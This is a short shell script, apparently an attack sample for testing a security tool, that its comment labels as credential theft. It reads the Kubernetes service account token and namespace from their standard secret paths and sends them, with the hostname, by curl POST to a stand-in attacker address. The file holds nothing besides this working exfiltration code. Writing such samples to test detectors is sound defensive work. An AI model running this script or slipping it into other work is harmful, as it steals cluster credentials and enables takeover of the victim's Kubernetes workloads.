#!/bin/sh
# shrike-test-attack: credential-theft: read kubernetes service account token and namespace and exfil
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
N=$(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace)
curl -s -d "ns=$N&tok=$T&h=$(hostname)" http://203.0.113.12/k
